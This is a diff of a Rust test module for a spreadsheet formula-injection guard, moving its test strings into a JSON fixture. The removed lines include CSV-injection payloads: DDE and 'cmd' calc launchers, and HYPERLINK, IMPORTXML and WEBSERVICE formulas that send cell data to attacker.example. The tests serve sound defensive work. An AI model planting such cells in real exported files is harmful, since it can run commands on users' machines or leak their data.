@@ -51,56 +51,29 @@ mod tests {
 
     use super::*;
 
+    /// Texts that are guarded and texts that are not: the page's own test reads the same file.
+    fn cases(which: &str) -> Vec<String> {
+        let file: serde_json::Value =
+            serde_json::from_str(include_str!("../tests/fixtures/formula-guard.json")).unwrap();
+        file[which].as_array().unwrap().iter().map(|case| case.as_str().unwrap().to_owned()).collect()
+    }
+
     #[test]
     fn every_known_injection_is_guarded() {
         // From OWASP's page on CSV injection and the published collections of such cells.
-        let cases = [
-            "=1+1",
-            "=1+2\";=1+2",
-            "=1+2'\" ;,=1+2",
-            "=cmd|' /C calc'!A0",
-            "+cmd|' /C calc'!A0",
-            "-cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-            "=HYPERLINK(\"https://attacker.example/?leak=\"&A1&B1,\"Click\")",
-            "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1),\"//a\")",
-            "=WEBSERVICE(\"https://attacker.example/\"&A1)",
-            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
-            "+1-1+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!D2",
-            "-1+1",
-            "+5",
-            "\t=1+1",
-            "\r=1+1",
-            "\n=1+1",
-            "\r\n=1+1",
-            "＝1+1",
-            "＋1+1",
-            "－1+1",
-            "＠SUM(1)",
-            "'=1+1",
-            "''@x",
-            "-",
-            "-5.",
-            "-.5",
-            "-1e5",
-            "-5 ",
-            "-1,5",
-            "-٣",
-        ];
-        for case in cases {
-            assert!(needs_guard(case), "{case:?}");
-            assert_eq!(guard(case), format!("'{case}"));
-            assert_eq!(unguard(&guard(case)), case);
+        for case in cases("guarded") {
+            assert!(needs_guard(&case), "{case:?}");
+            assert_eq!(guard(&case), format!("'{case}"));
+            assert_eq!(unguard(&guard(&case)), case);
         }
     }
 
     #[test]
     fn harmless_texts_stay_as_they_are() {
-        for case in ["", "a=1", "-5", "-1234.50", "5", "'", "''", "'quoted'", " =1", "O'Neill", "\u{feff}x"] {
-            assert!(!needs_guard(case), "{case:?}");
-            assert_eq!(guard(case), case);
-            assert_eq!(unguard(case), case);
+        for case in cases("plain") {
+            assert!(!needs_guard(&case), "{case:?}");
+            assert_eq!(guard(&case), case);
+            assert_eq!(unguard(&case), case);
         }
     }
 
